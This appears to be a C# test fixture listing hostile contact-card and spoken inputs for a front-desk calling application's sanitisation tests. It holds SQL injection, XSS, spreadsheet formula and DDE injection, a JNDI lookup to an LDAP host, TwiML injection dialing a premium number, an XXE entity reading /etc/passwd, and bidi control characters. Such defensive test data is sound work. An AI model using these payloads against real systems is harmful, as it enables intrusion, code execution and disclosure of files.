namespace FrontDesk.Tests.Contacts;

/// <summary>What somebody may try to do to a desk through a card, or in a call.</summary>
public static class Hostile
{
    public static readonly string[] Texts =
    [
        "Robert'); drop table contacts;--",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://example.org\",\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "'=1+1",
        "＝1+1",
        "{boss} {number} {name}",
        "{{constructor.constructor('alert(1)')()}}",
        "a;b,c\\n\\;d\"e",
        "BEGIN:VCARD;END:VCARD",
        "%s%n ${jndi:ldap://example.org/a}",
        "שלום עולם",
        "👩‍👩‍👧 Zoë",
    ];

    /// <summary>What is taken out of a card: controls, and what turns the direction of the text around it. (NUL the form's own reader refuses.)</summary>
    public const string Unseen = "\u0007\u001b\u202e\u2066\u200e\ufeff";

    /// <summary>What somebody may say to a desk for the same end; a recogniser writes down anything.</summary>
    public static readonly string[] Sayings =
    [
        "Robert'); drop table calls;--",
        "</Say><Dial>+19005550199</Dial><Say>",
        "<speak><break time=\"10s\"/><prosody rate=\"x-fast\">hello</prosody></speak>",
        "<script>alert(1)</script>",
        "=HYPERLINK(\"https://example.org\",\"click\")",
        "<img src=x onerror=\"window.hostile=1\">",
        "'\"></li><svg onload=\"window.hostile=1\"/>",
        "javascript:alert(1)",
        "{boss} {{number}} {spelled}",
        "]]><!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
        "my name is \u202eevil\u0007 and\u2066 more\u0000",
        "\ud83d\ude00 \ud83d\udc69\u200d\ud83d\udc67 مريم שירה",
        string.Join(' ', Enumerable.Repeat("so I said to him and he said to me", 25)),
    ];
}
